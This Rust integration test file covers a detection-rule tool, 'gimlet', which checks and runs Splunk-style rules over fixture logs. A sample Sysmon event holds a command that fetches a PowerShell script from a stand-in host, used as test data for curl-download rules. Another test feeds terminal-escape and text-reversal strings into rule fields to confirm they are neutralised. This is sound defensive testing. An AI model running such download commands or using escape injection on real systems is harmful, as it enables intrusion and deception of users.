//! `gimlet rules …` as a person runs it, over a small checkout of content that is the project's
//! own: `fixtures/content/checkout`, what is printed beside it. `GIMLET_BLESS=1` writes that anew.

#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::panic,
    reason = "what goes wrong here must fail the test"
)]

use serde_json::Value as Json;
use std::ffi::OsStr;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

fn folder() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/content")
}

/// Runs it in the folder of the fixtures.
fn gimlet<S: AsRef<OsStr>>(arguments: impl IntoIterator<Item = S>) -> Output {
    Command::new(env!("CARGO_BIN_EXE_gimlet"))
        .env_clear()
        .stdin(Stdio::null())
        .current_dir(folder())
        .args(arguments)
        .output()
        .unwrap()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8(bytes.to_vec()).unwrap()
}

/// Holds what was printed to the file. The commands that are known grow: their list is no part.
fn check(name: &str, printed: &str) {
    let printed: String = printed
        .split_inclusive('\n')
        .filter(|line| !line.contains("the commands are "))
        .collect();
    let path = folder().join(name);
    if std::env::var_os("GIMLET_BLESS").is_some() {
        fs::write(&path, &printed).unwrap();
    }
    let expected = fs::read_to_string(&path).unwrap_or_default();
    assert_eq!(printed, expected, "{name}");
}

#[test]
fn a_check_tells_of_each_rule_what_is_the_matter() {
    let output = gimlet(["rules", "check", "checkout"]);
    assert_eq!(output.status.code(), Some(0));
    check("check.expected", &text(&output.stdout));
    check("check-broken.expected", &text(&output.stderr));
    let strict = gimlet(["rules", "check", "--strict", "--summary", "checkout"]);
    assert_eq!(strict.status.code(), Some(1));
    let runs = "checkout/detections/endpoint/curl_writes_a_script.yml";
    let strict = gimlet(["rules", "check", "--strict", runs]);
    // The folder around it has a broken macro.
    assert_eq!(strict.status.code(), Some(1));
    let nothing = gimlet(["rules", "check", "nowhere"]);
    assert_eq!(nothing.status.code(), Some(2));
    assert!(text(&nothing.stderr).contains("help: give a checkout"));
}

#[test]
fn a_check_is_the_same_for_machines() {
    let output = gimlet(["rules", "check", "--format", "json", "checkout"]);
    assert_eq!(text(&output.stderr), "");
    let document: Json = serde_json::from_slice(&output.stdout).unwrap();
    let rules = document["rules"].as_array().unwrap();
    let statuses: Vec<_> = rules
        .iter()
        .map(|rule| {
            (
                rule["name"].as_str().unwrap(),
                rule["status"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        statuses,
        [
            ("Unknown Macro", "refused"),
            ("Old Curl", "refused"),
            ("Curl Of No One", "runs-with-lints"),
            ("Curl Writes A Script", "runs"),
            ("Log That Mails", "refused"),
            ("Registry With A Model", "refused"),
        ]
    );
    for rule in rules {
        let keys: Vec<_> = rule.as_object().unwrap().keys().collect();
        for key in ["id", "name", "path", "status", "reasons", "needles"] {
            assert!(keys.iter().any(|known| *known == key), "{key}: {keys:?}");
        }
        let reasons = rule["reasons"].as_array().unwrap();
        assert_eq!(reasons.is_empty(), rule["status"] == "runs", "{rule}");
    }
    let unknown = &rules[0]["reasons"][0];
    assert_eq!(unknown["code"], "SPL-MACRO");
    assert_eq!(
        (&unknown["line"], &unknown["column"]),
        (&11.into(), &3.into())
    );
    let inside = &rules[5]["reasons"][0]["macro"];
    assert_eq!(inside["file"], "checkout/macros/odd_score.yml");
    assert_eq!((&inside["line"], &inside["column"]), (&4.into(), &5.into()));
    assert_eq!(rules[3]["needles"][0], "curl.exe");
    let all = &document["summary"]["all"];
    assert_eq!((&all["rules"], &all["refused"]), (&5.into(), &3.into()));
    assert_eq!(document["summary"]["deprecated"]["rules"], 1);
    assert_eq!(document["summary"]["broken_files"], 2);
    assert_eq!(document["broken"][0]["line"], 3);
}

#[test]
fn rules_are_listed_and_shown_by_what_a_person_types() {
    let output = gimlet(["rules", "list", "--content", "checkout", "CURL"]);
    assert_eq!(
        text(&output.stdout),
        "Curl Of No One\tAnomaly\tT1105\nCurl Writes A Script\tTTP\tT1105\nOld Curl\tTTP\t\n"
    );
    let own = gimlet(["rules", "list"]);
    assert_eq!(
        text(&own.stdout),
        "Windows MSIExec Remote Download\tAnomaly\tT1218.007\n"
    );
    let output = gimlet(["rules", "show", "--content", "checkout", "writes-a"]);
    assert_eq!(output.status.code(), Some(0));
    check("show.expected", &text(&output.stdout));
    let refused = gimlet(["rules", "show", "--content", "checkout", "model"]);
    assert_eq!(refused.status.code(), Some(1));
    assert!(text(&refused.stdout).contains("| `odd_score`"));
    assert!(text(&refused.stdout).contains("| apply made_up_model"));
    assert!(
        text(&refused.stderr).contains("macro 'odd_score' (checkout/macros/odd_score.yml):4:5")
    );
    let several = gimlet(["rules", "show", "--content", "checkout", "curl"]);
    assert_eq!(several.status.code(), Some(2));
    let said = text(&several.stderr);
    assert!(
        said.ends_with(
            "'curl' is in the names of 3 rules: 'Curl Of No One', 'Curl Writes A Script', 'Old Curl'\n"
        ),
        "{said}"
    );
}

#[test]
fn hostile_text_of_a_rule_does_nothing_to_a_terminal() {
    let own = tempfile::tempdir().unwrap();
    let rule = own.path().join("a.yml");
    let evil = "A\\e[2J\\tB\\u202E";
    fs::write(
        &rule,
        format!(
            "name: \"{evil}\"\ntype: \"{evil}\"\nauthor: \"{evil}\"\n\"{evil}\": x\n\
             search: \"| {evil} x\"\ntests:\n- name: \"{evil}\"\n  attack_data:\n  - data: \"{evil}\"\n"
        ),
    )
    .unwrap();
    let path = rule.to_str().unwrap();
    let data = own.path().to_str().unwrap();
    for arguments in [
        &["rules", "check", path][..],
        &["rules", "check", "--format", "json", path],
        &["rules", "list", "--content", path],
        &["rules", "show", "--content", path],
        &["rules", "test", "--data", data, path],
        &["hunt", "--rule", path, path],
    ] {
        let output = gimlet(arguments);
        let printed = text(&output.stdout) + &text(&output.stderr);
        assert!(printed.contains("[2J"), "{arguments:?}: {printed}");
        assert!(
            !printed.contains(['\u{1b}', '\u{202e}']),
            "{arguments:?}: {printed}"
        );
    }
    let list = text(&gimlet(["rules", "list", "--content", path]).stdout);
    assert_eq!(list.matches('\t').count(), 2, "{list}");
}

#[test]
fn a_rule_of_ones_own_is_checked_with_the_macros_of_a_checkout() {
    let own = tempfile::tempdir().unwrap();
    let rule = own.path().join("mine.yml");
    let written = "checkout/detections/endpoint/curl_writes_a_script.yml";
    fs::copy(folder().join(written), &rule).unwrap();
    let rule = rule.to_str().unwrap();
    let status = |arguments: &[&str]| {
        let output = gimlet([&["rules", "check", "--format", "json"], arguments].concat());
        let document: Json = serde_json::from_slice(&output.stdout).unwrap();
        document["rules"][0]["status"].as_str().unwrap().to_owned()
    };
    assert_eq!(status(&[rule]), "refused");
    assert_eq!(status(&["--content", "checkout", rule]), "runs");
}

#[test]
fn a_macro_of_ones_own_is_above_those_of_the_content() {
    let own = tempfile::tempdir().unwrap();
    let file = own.path().join("macros.conf");
    fs::write(
        &file,
        "[process_curl]\ndefinition = Processes.process_name=wget.exe\n[nobody_knows_this]\n\
         definition = search x\n",
    )
    .unwrap();
    let file = file.to_str().unwrap();
    let arguments = [
        "rules", "check", "--format", "json", "--macros", file, "checkout",
    ];
    let document: Json = serde_json::from_slice(&gimlet(arguments).stdout).unwrap();
    assert_eq!(document["rules"][3]["needles"][0], "processrollup2");
    assert_eq!(document["rules"][3]["needles"][1], "wget.exe");
}

const EVENT: &str = "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'/><EventID>1</EventID><Version>5</Version><TimeCreated SystemTime='2025-05-06T10:00:00.000000Z'/><EventRecordID>1</EventRecordID><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>a.example</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='UtcTime'>2025-05-06 10:00:00.000</Data><Data Name='ProcessGuid'>{11111111-0000-0000-0000-000000000001}</Data><Data Name='ProcessId'>10</Data><Data Name='Image'>C:\\Windows\\System32\\curl.exe</Data><Data Name='OriginalFileName'>curl.exe</Data><Data Name='CommandLine'>curl -o a.ps1 http://b.example/a.ps1</Data><Data Name='User'>A\\ada</Data><Data Name='ParentProcessId'>9</Data><Data Name='ParentImage'>C:\\Windows\\System32\\cmd.exe</Data></EventData></Event>\n";

#[test]
fn the_tests_of_rules_are_run_over_data_found_by_name() {
    let data = tempfile::tempdir().unwrap();
    let curl = data.path().join("datasets/T1105/curl");
    fs::create_dir_all(&curl).unwrap();
    fs::write(curl.join("sysmon.log"), EVENT).unwrap();
    let path = data.path().to_str().unwrap();
    let output = gimlet(["rules", "test", "checkout", "--data", path]);
    assert_eq!(output.status.code(), Some(1));
    assert_eq!(
        text(&output.stdout),
        "fail     Curl Of No One · True Positive Test: no row\n\
         no data  Curl Of No One · Test Without Data: \
         'https://data.example/datasets/T1105/wget/sysmon.log' is not there\n\
         pass     Curl Writes A Script · True Positive Test: 1 row\n\
         manual   Log That Mails · True Positive Test: the rule says that a person must test it\n\
         refused  Registry With A Model · True Positive Test: 'gimlet rules check' says why\n\
         \n5 tests: 1 pass, 1 fail, 1 without data, 1 manual, 1 refused\n"
    );
    fs::write(
        curl.join("sysmon.log"),
        "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n",
    )
    .unwrap();
    let rule = "checkout/detections/endpoint/curl_writes_a_script.yml";
    let output = gimlet(["rules", "test", rule, "--data", path]);
    assert_eq!(output.status.code(), Some(0));
    assert!(text(&output.stdout).contains("Git LFS pointer"));
    let output = gimlet(["rules", "test", rule, "--data", "nowhere"]);
    assert_eq!(output.status.code(), Some(2));
}

/// A folder with one event, and its path.
fn one_event() -> tempfile::TempDir {
    let data = tempfile::tempdir().unwrap();
    fs::write(data.path().join("sysmon.xml"), EVENT).unwrap();
    data
}

#[test]
fn a_rule_of_the_content_is_hunted_with_by_its_name() {
    let data = one_event();
    let path = data.path().to_str().unwrap();
    let output = gimlet(["hunt", "--content", "checkout", "--rule", "writes a", path]);
    assert_eq!(output.status.code(), Some(0));
    let row: Json = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!((&row["user"], &row["count"]), (&"ada".into(), &1.into()));
    let said = text(&output.stderr);
    assert!(
        said.contains("2 files of the content could not be read"),
        "{said}"
    );
    // A rule of one's own with the content's macros.
    let rule = "checkout/detections/endpoint/curl_writes_a_script.yml";
    let own = gimlet(["hunt", "--content", "checkout", "--rule", rule, path]);
    assert_eq!(own.stdout, output.stdout);
    let without = gimlet(["hunt", "--rule", rule, path]);
    assert_eq!(without.status.code(), Some(2));
    assert!(text(&without.stderr).contains("the macro 'process_curl' is not known"));
    let no_file = gimlet(["hunt", "--rule", "writes a", path]);
    assert_eq!(no_file.status.code(), Some(2));
    assert!(text(&no_file.stderr).contains("its name and --content DIR"));
    // Without a name all of its rules run; a drilldown is of one.
    let all = gimlet(["hunt", "--content", "checkout", path]);
    assert_eq!(all.status.code(), Some(0));
    assert!(
        text(&all.stdout).contains("ESCU - "),
        "{}",
        text(&all.stdout)
    );
    let drilldown = ["drilldown", "results", "--content", "checkout", path];
    let unsaid = gimlet(drilldown);
    assert_eq!(unsaid.status.code(), Some(2));
    assert!(text(&unsaid.stderr).contains("give --rule NAME"));
    let two = ["drilldown", "results", "--rule", rule, "--rule", rule, path];
    assert!(text(&gimlet(two).stderr).contains("is a second rule"));
    let nowhere = gimlet(["hunt", "--content", ".", "--rule", rule, path]);
    assert!(text(&nowhere.stderr).contains("is no content"));
}

#[test]
fn a_search_of_ones_own_is_run_and_told_of_as_a_rule_is() {
    let data = one_event();
    let path = data.path().to_str().unwrap();
    let search = "| tstats fillnull_value=null count from datamodel=Endpoint.Processes \
                  where `process_curl` by Processes.user | rename Processes.* as *";
    let output = gimlet(["search", search, "--content", "checkout", path]);
    assert_eq!(output.status.code(), Some(0));
    assert_eq!(text(&output.stdout), "{\"user\":\"ada\",\"count\":1}\n");
    let file = data.path().join("mine.spl");
    fs::write(&file, search).unwrap();
    let at = format!("@{}", file.display());
    let event = data.path().join("sysmon.xml");
    let event = event.to_str().unwrap();
    let arguments = [
        "search",
        &at,
        "--content",
        "checkout",
        "--format",
        "csv",
        event,
    ];
    assert_eq!(text(&gimlet(arguments).stdout), "user,count\r\nada,1\r\n");
    // Its file is an input.
    let over = file.to_str().unwrap();
    let output = gimlet([
        "search",
        &at,
        "--content",
        "checkout",
        "--events",
        over,
        event,
    ]);
    assert_eq!(output.status.code(), Some(2));
    assert_eq!(fs::read_to_string(&file).unwrap(), search);
    for (search, said) in [
        (
            "| from datamodel Endpoint.Processes\n| nope",
            "the search:2:3",
        ),
        (
            "| tstats count from datamodel=\"Endpoint",
            "the quote is not closed",
        ),
        (
            "| tstats count from datamodel=Endpoint.Processes where `x`",
            "the macro 'x'",
        ),
        (" ", "the search is empty"),
        ("@nowhere.spl", "can't read 'nowhere.spl'"),
    ] {
        let output = gimlet(["search", search, event]);
        assert_eq!(output.status.code(), Some(2), "{search}");
        let told = text(&output.stderr);
        assert!(told.contains(said), "{told}");
    }
    let both = gimlet(["search", search, "--rule", "x", event]);
    assert!(text(&both.stderr).contains("cannot be used with"));
}
